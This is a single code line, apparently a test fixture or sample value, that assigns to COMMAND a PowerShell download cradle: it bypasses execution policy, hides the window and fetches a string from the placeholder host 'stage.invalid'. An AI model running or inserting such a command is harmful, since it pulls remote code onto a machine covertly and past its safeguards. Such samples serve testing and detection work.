COMMAND = "powershell -ep bypass -w hidden -c (New-Object Net.WebClient).DownloadString('http://stage.invalid')"
